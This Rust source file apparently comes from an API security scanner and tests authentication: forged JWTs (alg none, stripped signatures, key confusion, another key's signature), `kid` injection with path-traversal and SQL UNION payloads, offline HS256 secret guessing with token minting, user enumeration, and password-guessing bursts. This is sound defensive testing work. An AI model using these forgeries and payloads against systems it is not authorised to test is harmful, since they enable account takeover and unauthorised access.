//! Broken authentication: operations that answer without credentials, forged tokens (alg
//! none, no or old signature, another key, `kid` injection, a guessed HS256 secret), expired
//! tokens, and login operations (user enumeration, no limit on wrong passwords).

use palisade_audit::names;
use palisade_audit::spec::Operation;
use palisade_audit::Severity;
use serde_json::{json, Value};

use super::{secured, unsafe_method};
use crate::build::{body_schema, build};
use crate::client::{Exchange, Refused};
use crate::graph::Who;
use crate::jwt::{self, Jwt};
use crate::request::{Body, Loc, Req};
use crate::{schema, Finding, Identity, Scan, API2, API4};

/// Whether an operation logs a user in: a POST whose body has a password field, on a path or
/// operation id that says so (`/login`, `/auth/token`, `signIn`).
pub(crate) fn is_login(doc: &Value, op: &Operation) -> bool {
    if op.method != "POST" {
        return false;
    }
    let mut w: Vec<String> = op.path.split('/').flat_map(names::words).collect();
    w.extend(names::words(
        op.raw
            .get("operationId")
            .and_then(Value::as_str)
            .unwrap_or(""),
    ));
    let says = w.iter().any(|x| {
        matches!(
            x.as_str(),
            "login"
                | "signin"
                | "sign"
                | "session"
                | "sessions"
                | "token"
                | "authenticate"
                | "logon"
        )
    });
    says && password_field(doc, op).is_some()
}

/// Whether an operation logs out (never called: it would end the scan's own sessions).
pub(crate) fn is_logout(op: &Operation) -> bool {
    let p = op.path.to_ascii_lowercase();
    p.contains("logout") || p.contains("signout") || p.contains("sign-out") || p.contains("revoke")
}

/// The password field of an operation's body, and the field naming the user.
pub(crate) fn password_field(doc: &Value, op: &Operation) -> Option<(String, Option<String>)> {
    let (_, s, _) = body_schema(doc, op)?;
    let props = schema::properties(doc, &s);
    let pass = props.iter().find(|(n, v, _)| {
        v.get("format").and_then(Value::as_str) == Some("password")
            || names::words(n)
                .iter()
                .any(|w| w == "password" || w == "passwd" || w == "pass")
    })?;
    let user = props
        .iter()
        .find(|(n, _, _)| {
            names::words(n)
                .iter()
                .any(|w| matches!(w.as_str(), "username" | "user" | "email" | "login" | "name"))
        })
        .map(|(n, _, _)| n.clone());
    Some((pass.0.clone(), user))
}

fn forged(token: String) -> Identity {
    Identity::bearer(&token)
}

impl Scan<'_> {
    pub(crate) async fn authentication(&mut self) -> Result<(), Refused> {
        // operations that answer without credentials
        let bases: Vec<_> = self
            .bases
            .iter()
            .filter(|b| b.who == Who::A && b.ex.ok())
            .filter(|b| secured(&self.op(b.op)))
            .filter(|b| self.opts.allow_unsafe || !unsafe_method(&b.req.method))
            .cloned()
            .collect();
        let mut done = std::collections::BTreeSet::new();
        for b in bases {
            if !done.insert(b.op) {
                continue;
            }
            let r = self.send(&b.req, None).await?;
            if r.ok() {
                self.find(
                    Finding::new(
                        "auth.missing",
                        Severity::High,
                        API2,
                        format!("{} answers without credentials", b.req.operation()),
                    )
                    .at(b.req.operation())
                    .shown(vec![r]),
                );
            }
        }
        self.tokens().await
    }

    async fn tokens(&mut self) -> Result<(), Refused> {
        let Some(t) = Jwt::parse(&self.opts.a.authorization) else {
            self.skipped
                .push("forged tokens: identity A is not a JWT".into());
            return Ok(());
        };
        let Some(probe) = self.probe.clone() else {
            self.skipped.push(
                "forged tokens: no operation refuses a caller without credentials and passes A"
                    .into(),
            );
            return Ok(());
        };
        let (header, claims) = (t.header.clone(), t.claims.clone());
        let op = probe.req.operation();
        // alg none, in the spellings libraries have accepted
        for alg in ["none", "None", "NONE", "nOnE"] {
            let mut h = header.clone();
            jwt::set(&mut h, "alg", json!(alg));
            let r = self
                .with_token(&probe.req, format!("{}.", jwt::unsigned(&h, &claims)))
                .await?;
            if r.ok() {
                self.find(
                    Finding::new(
                        "jwt.alg_none",
                        Severity::Critical,
                        API2,
                        format!("a token with alg `{alg}` and no signature is accepted"),
                    )
                    .at(op.clone())
                    .shown(vec![r]),
                );
                break;
            }
        }
        let r = self.with_token(&probe.req, format!("{}.", t.input)).await?;
        if r.ok() {
            self.find(
                Finding::new(
                    "jwt.no_signature",
                    Severity::Critical,
                    API2,
                    "a token without its signature is accepted".into(),
                )
                .at(op.clone())
                .shown(vec![r]),
            );
        }
        let mut changed = claims.clone();
        jwt::set(&mut changed, "exp", json!(1));
        let r = self
            .with_token(
                &probe.req,
                format!("{}.{}", jwt::unsigned(&header, &changed), t.signature),
            )
            .await?;
        if r.ok() {
            self.find(Finding::new("jwt.not_verified", Severity::Critical, API2, "a token whose claims were altered (exp in 1970) is accepted with its old signature".into()).at(op.clone()).shown(vec![r]));
        }
        if let Some(sig) = other_key_signature(t.alg(), &t.input).filter(|s| *s != t.signature) {
            let r = self
                .with_token(&probe.req, format!("{}.{sig}", t.input))
                .await?;
            if r.ok() {
                self.find(
                    Finding::new(
                        "jwt.other_key",
                        Severity::Critical,
                        API2,
                        format!("a token signed with another {} key is accepted", t.alg()),
                    )
                    .at(op.clone())
                    .shown(vec![r]),
                );
            }
        }
        // kid injection: a key file that is empty, a key the attacker selects with SQL
        for (kid, key) in [
            ("../../../../../../../../../../dev/null", ""),
            (
                "x' UNION SELECT 'palisade-scan-kid'-- -",
                "palisade-scan-kid",
            ),
        ] {
            let h = json!({"alg": "HS256", "typ": "JWT", "kid": kid});
            let r = self
                .with_token(&probe.req, jwt::hs256(&h, &claims, key.as_bytes()))
                .await?;
            if r.ok() {
                self.find(Finding::new("jwt.kid_injection", Severity::Critical, API2, format!("the `kid` header selects the verification key: `{kid}` with the key `{key}` is accepted")).at(op.clone()).shown(vec![r]));
                break;
            }
        }
        if t.alg().starts_with("RS") {
            self.key_confusion(&t, &probe.req).await?;
        }
        if t.alg() == "HS256" {
            self.step(&format!(
                "searching the HS256 secret among {} candidates",
                jwt::candidate_count()
            ));
            let t2 = t.clone();
            let found = tokio::task::spawn_blocking(move || jwt::search(&t2))
                .await
                .ok()
                .flatten();
            if let Some(secret) = found {
                // the proof: a token minted with it (A's claims, a fresh expiry) is accepted
                let mut minted = claims.clone();
                let soon = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map_or(0, |d| d.as_secs())
                    + 600;
                jwt::set(&mut minted, "exp", json!(soon));
                jwt::set(&mut minted, "jti", json!("palisade-scan-minted"));
                let r = self
                    .with_token(&probe.req, jwt::hs256(&header, &minted, secret.as_bytes()))
                    .await?;
                let masked: String = secret.chars().take(2).collect();
                self.weak = Some(secret);
                self.find(
                    Finding::new(
                        "jwt.weak_secret",
                        Severity::Critical,
                        API2,
                        format!(
                            "the HS256 signing secret was guessed offline ({masked}…, one of {} common secrets and numbers): anyone can mint tokens{}",
                            jwt::candidate_count(),
                            if r.ok() { ", and a minted one is accepted" } else { "" }
                        ),
                    )
                    .at(op.clone())
                    .shown(vec![r]),
                );
            }
        }
        let expired = match &self.opts.expired {
            Some(e) => Some(e.clone()),
            None => self.weak.clone().map(|secret| {
                let mut p = claims.clone();
                jwt::set(&mut p, "exp", json!(1));
                forged(jwt::hs256(&header, &p, secret.as_bytes()))
            }),
        };
        match expired {
            Some(e) => {
                let r = self.send(&probe.req, Some(&e)).await?;
                if r.ok() {
                    self.find(
                        Finding::new(
                            "jwt.expired",
                            Severity::High,
                            API2,
                            "an expired token is accepted".into(),
                        )
                        .at(op)
                        .shown(vec![r]),
                    );
                }
            }
            None => self
                .skipped
                .push("expired tokens: give --auth-expired (an expired token of A)".into()),
        }
        Ok(())
    }

    /// The target's JWKS, from the usual places on the target itself (an OpenID
    /// configuration's `jwks_uri` is followed only when it is on the target).
    async fn jwks(&mut self) -> Result<Vec<Value>, Refused> {
        let get = |path: &str| Req {
            method: "GET".into(),
            template: path.into(),
            path: Vec::new(),
            query: Vec::new(),
            headers: Vec::new(),
            cookies: Vec::new(),
            body: Body::None,
        };
        let mut paths = vec![
            "/.well-known/jwks.json".to_string(),
            "/jwks.json".to_string(),
        ];
        let conf = self
            .send(&get("/.well-known/openid-configuration"), None)
            .await?;
        if let Some(uri) = serde_json::from_str::<Value>(&conf.body)
            .ok()
            .and_then(|v| {
                v.get("jwks_uri")
                    .and_then(Value::as_str)
                    .map(str::to_string)
            })
        {
            let origin = format!("{}:{}", self.client.host(), self.client.port());
            if let Some(rest) = uri.split_once("://").map(|(_, r)| r) {
                if let Some((host, path)) = rest.split_once('/') {
                    if host == origin || host == self.client.host() {
                        paths.insert(0, format!("/{path}"));
                    }
                }
            }
        }
        for p in paths {
            let r = self.send(&get(&p), None).await?;
            let keys = serde_json::from_str::<Value>(&r.body)
                .ok()
                .and_then(|v| v.get("keys").and_then(Value::as_array).cloned());
            if let (true, Some(k)) = (r.ok(), keys) {
                return Ok(k);
            }
        }
        Ok(Vec::new())
    }

    /// An RS256 token re-signed with HS256, the RSA public key (from the target's JWKS) as
    /// the HMAC key.
    async fn key_confusion(&mut self, t: &Jwt, req: &Req) -> Result<(), Refused> {
        let keys = self.jwks().await?;
        let kid = t.header.get("kid").cloned();
        for k in keys
            .iter()
            .filter(|k| k.get("kty").and_then(Value::as_str) == Some("RSA"))
        {
            if kid.is_some() && k.get("kid").is_some() && k.get("kid") != kid.as_ref() {
                continue;
            }
            let part = |name: &str| k.get(name).and_then(Value::as_str).and_then(jwt::b64d);
            let (Some(n), Some(e)) = (part("n"), part("e")) else {
                continue;
            };
            let mut h = t.header.clone();
            jwt::set(&mut h, "alg", json!("HS256"));
            for pem in jwt::rsa_pems(&n, &e) {
                let r = self
                    .with_token(req, jwt::hs256(&h, &t.claims, pem.as_bytes()))
                    .await?;
                if r.ok() {
                    self.find(
                        Finding::new(
                            "jwt.key_confusion",
                            Severity::Critical,
                            API2,
                            "an RS256 token re-signed with HS256, the published public key as its secret, is accepted".into(),
                        )
                        .at(req.operation())
                        .shown(vec![r]),
                    );
                    return Ok(());
                }
            }
        }
        if keys.is_empty() {
            self.skipped
                .push("key confusion: the target publishes no JWKS where the scan looked".into());
        }
        Ok(())
    }

    async fn with_token(&mut self, req: &Req, token: String) -> Result<Exchange, Refused> {
        self.send(req, Some(&forged(token))).await
    }

    /// Login operations: a wrong password and an unknown user answered alike, wrong passwords
    /// limited, no operator in the password field letting anyone in.
    pub(crate) async fn login(&mut self) -> Result<(), Refused> {
        for i in 0..self.spec.operations.len() {
            let op = self.op(i);
            if !is_login(&self.spec.doc, &op) {
                continue;
            }
            let Some((pass, user)) = password_field(&self.spec.doc, &op) else {
                continue;
            };
            let b = build(&self.spec.doc, &op, &self.graph, Who::A, None, 0);
            // B's account takes the wrong passwords (a lockout must not end A's part of the scan)
            let known = self.login_name(
                if self.opts.b.is_some() {
                    Who::B
                } else {
                    Who::A
                },
                user.as_deref(),
            );
            let mut wrong = b
                .req
                .with(&loc(&b.req, &pass), json!("palisade-scan-wrong-password"));
            if let (Some(u), Some(k)) = (&user, &known) {
                wrong = wrong.with(&loc(&b.req, u), json!(k));
            }
            let operation = b.req.operation();
            self.burst = true;
            let r1 = self.send(&wrong, None).await?;
            if let Some(u) = &user {
                let unknown = wrong.with(&loc(&b.req, u), json!("palisade-scan-no-such-user-7f3a"));
                let r2 = self.send(&unknown, None).await?;
                // the name sent, and the answer's own request id, are not what tells users apart
                let strip = |e: &Exchange, name: &str| {
                    let body = e.body.replace(name, "");
                    match e.header("x-request-id").filter(|id| id.len() >= 8) {
                        Some(id) => body.replace(id, ""),
                        None => body,
                    }
                };
                let differs = r1.status != r2.status
                    || strip(&r1, known.as_deref().unwrap_or("\u{0}"))
                        != strip(&r2, "palisade-scan-no-such-user-7f3a");
                if known.is_some() && differs {
                    self.find(
                        Finding::new("auth.user_enumeration", Severity::Medium, API2, format!("{operation}: a wrong password and an unknown user get different answers"))
                            .at(operation.clone())
                            .shown(vec![r1.clone(), r2]),
                    );
                }
            }
            // a burst of wrong passwords for a known user
            let mut limited = matches!(r1.status, 429 | 423);
            let mut last = r1.clone();
            for _ in 0..20 {
                if limited {
                    break;
                }
                last = self.send(&wrong, None).await?;
                limited = matches!(last.status, 429 | 423)
                    || (last.status == 403 && r1.status != 403)
                    || last.header("retry-after").is_some();
            }
            self.burst = false;
            if !limited {
                self.find(
                    Finding::new("auth.login_unlimited", Severity::High, API4, format!("{operation}: 21 wrong passwords in a row for one user, none refused or slowed"))
                        .at(operation.clone())
                        .shown(vec![last]),
                );
            }
        }
        Ok(())
    }

    /// The name A logs in with: its account's user name or e-mail, else its token's subject.
    pub(crate) fn login_name(&self, who: Who, field: Option<&str>) -> Option<String> {
        let me = self.graph.me(who);
        if let (Some(me), Some(f)) = (me, field) {
            if let Some(v) = me.get(f).and_then(Value::as_str) {
                return Some(v.to_string());
            }
            let wants_email = names::words(f).iter().any(|w| w == "email");
            for (k, v) in me {
                let w = names::words(k);
                let fits = if wants_email {
                    w.iter().any(|x| x == "email")
                } else {
                    w.iter().any(|x| x == "username" || x == "login")
                };
                if let (true, Some(s)) = (fits, v.as_str()) {
                    return Some(s.to_string());
                }
            }
        }
        self.graph
            .ids
            .iter()
            .find(|(w, _)| *w == who)
            .map(|(_, v)| v.clone())
    }
}

/// The location of a body field in a request (JSON or form).
pub(crate) fn loc(req: &Req, field: &str) -> Loc {
    match req.body {
        Body::Form(_) => Loc::Form(field.to_string()),
        _ => Loc::Json(format!("/{}", palisade_audit::spec::esc(field))),
    }
}

/// A signature of `input` with a fresh key of the same algorithm.
fn other_key_signature(alg: &str, input: &str) -> Option<String> {
    let rng = aws_lc_rs::rand::SystemRandom::new();
    let sig: Vec<u8> = match alg {
        "HS256" => {
            let mut k = [0u8; 32];
            aws_lc_rs::rand::fill(&mut k).ok()?;
            let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, &k);
            aws_lc_rs::hmac::sign(&key, input.as_bytes())
                .as_ref()
                .to_vec()
        }
        "ES256" => {
            let k = aws_lc_rs::signature::EcdsaKeyPair::generate(
                &aws_lc_rs::signature::ECDSA_P256_SHA256_FIXED_SIGNING,
            )
            .ok()?;
            k.sign(&rng, input.as_bytes()).ok()?.as_ref().to_vec()
        }
        "RS256" => {
            let k = aws_lc_rs::rsa::KeyPair::generate(aws_lc_rs::rsa::KeySize::Rsa2048).ok()?;
            let mut out = vec![0; k.public_modulus_len()];
            k.sign(
                &aws_lc_rs::signature::RSA_PKCS1_SHA256,
                &rng,
                input.as_bytes(),
                &mut out,
            )
            .ok()?;
            out
        }
        _ => return None,
    };
    Some(jwt::b64e(&sig))
}
